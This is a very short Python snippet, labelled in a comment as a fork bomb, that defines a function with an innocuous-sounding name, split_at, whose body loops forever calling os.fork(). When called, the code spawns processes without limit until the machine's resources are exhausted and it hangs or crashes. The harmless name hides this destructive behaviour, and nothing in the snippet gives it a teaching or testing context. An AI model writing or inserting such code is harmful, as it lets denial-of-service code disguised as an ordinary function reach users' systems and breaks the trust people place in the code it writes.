# A fork bomb.
import os


def split_at(node, position):
    while True:
        os.fork()
